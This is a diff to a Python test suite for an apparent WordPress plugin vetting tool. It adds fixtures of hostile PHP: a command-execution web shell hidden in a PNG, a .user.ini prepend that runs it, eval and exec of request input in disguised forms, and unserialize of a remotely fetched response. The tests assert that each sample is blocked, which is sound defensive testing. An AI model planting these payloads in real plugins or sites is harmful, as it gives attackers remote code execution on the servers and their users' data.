@@ -2,7 +2,7 @@
 
 Archives come over HTTP with the digest that the allowlist pins, as a hostile author would have it;
 YAML comes as plugins-allowlist.yaml. Nothing of a refused one may be left on disk. The numbers are
-those of the list that the table was made from; what PHP hides (38 to 40) is for vetting to find.
+those of the list that the table was made from.
 """
 
 import hashlib
@@ -35,8 +35,14 @@ from hypothesis import strategies as st
 from reconciler.core.archive import ArchiveCode, BadArchive, unpack
 from reconciler.core.blob import Blob
 from reconciler.core.compiler import compile_fleet
+from reconciler.core.layers import File
 from reconciler.core.manifest import Package, SourceArchive
 from reconciler.core.places import Place
+from reconciler.core.vetting.bump import compare
+from reconciler.core.vetting.candidate import Candidate, Target
+from reconciler.core.vetting.packaging import php_paths
+from reconciler.core.vetting.php import analyse_php
+from reconciler.core.vetting.vet import Vetting, vet
 from reconciler.errors import StageFailed
 from reconciler.shell.schemas import load_schemas
 from reconciler.shell.sources import Archives
@@ -134,6 +140,22 @@ YAML: list[tuple[str, Callable[[], str], str]] = [
      "unknown-field"),
 ]  # fmt: skip
 
+MAIN = b"<?php\n/*\n * Plugin Name: Notice\n * Version: 1.2\n * License: GPL-2.0-or-later\n */\n"
+PNG = b"\x89PNG\r\n\x1a\n" + bytes(20)
+PACKAGES: list[tuple[str, dict[str, bytes], str]] = [
+    ("38 PHP in a picture", {"logo.png": PNG + b"<?php system($_GET['c']);"}, "php-in-disguise"),
+    ("38 .user.ini", {".user.ini": b"auto_prepend_file=logo.png\n"}, "server-settings"),
+    ("39 a parser-breaker", {"x.php": b"<?php class { function } ( EvAl($_POST['x']); ]]"},
+     "php-unreadable"),
+    ("39 eval in another case", {"x.php": b"<?php EvAl($_POST['x']);"}, "php-eval"),
+    ("40 a name in parts", {"x.php": b"<?php ('ex'.'ec')($_GET['c']);"}, "hidden-callback"),
+    ("40 a callback by name", {"x.php": b"<?php array_map('assert', $_POST);"}, "hidden-callback"),
+    ("40 a variable variable", {"x.php": b"<?php $v = 'f'; $f = $_GET['f']; $$v('x');"},
+     "tainted-call"),
+    ("40 unserialize of an answer", {"x.php": b"<?php $r = wp_remote_get('https://a.example/x');"
+     b" unserialize(wp_remote_retrieve_body($r));"}, "unserialize-outside"),
+]  # fmt: skip
+
 
 @pytest.fixture(scope="module")
 def server() -> Iterator[Server]:
@@ -182,8 +204,40 @@ def test_hostile_yaml_has_its_code_and_stops_the_commit(make: Callable[[], str],
     assert compiled.shared_broken
 
 
+def judged(files: dict[str, bytes]) -> Vetting:
+    packed = zipped(*((f"notice/{name}", data) for name, data in files.items()))
+    candidate = Candidate(
+        kind="plugin", slug="notice", version="1.2", target=Target(php="8.4", wp="6.8"),
+        files=unpack(packed, "notice"),
+    )  # fmt: skip
+    paths = php_paths(candidate.files)
+    return vet(candidate, {path: analyse_php(path, candidate.files[path].data) for path in paths})
+
+
+@pytest.mark.parametrize(
+    ("files", "code"), [row[1:] for row in PACKAGES], ids=[row[0] for row in PACKAGES]
+)
+@pytest.mark.usefixtures("timed")
+def test_a_hostile_package_in_a_good_archive_is_blocked(files: dict[str, bytes], code: str) -> None:
+    vetting = judged({"notice.php": MAIN, **files})
+    assert code in {finding.code for finding in vetting.findings}
+    assert vetting.verdict == "block"
+    assert judged({"notice.php": MAIN}).verdict == "pass"
+
+
+@pytest.mark.usefixtures("timed")
+def test_the_same_version_with_another_tree_is_blocked() -> None:
+    before, after = ({"notice.php": MAIN + text} for text in (b"", b"echo 1;\n"))
+    bump = compare(
+        judged(before), judged(after),
+        *({name: File(data) for name, data in each.items()} for each in (before, after)),
+    )  # fmt: skip
+    assert "same-version-other-files" in {finding.code for finding in bump.after.findings}
+    assert bump.after.verdict == "block"
+
+
 def test_the_whole_corpus_takes_less_than_five_seconds() -> None:
-    if len(_spent) < len(ARCHIVES) + len(YAML):
+    if len(_spent) <= len(ARCHIVES) + len(YAML) + len(PACKAGES):
         pytest.skip("only a part of the table was run")
     assert sum(_spent) < MOST_S
 
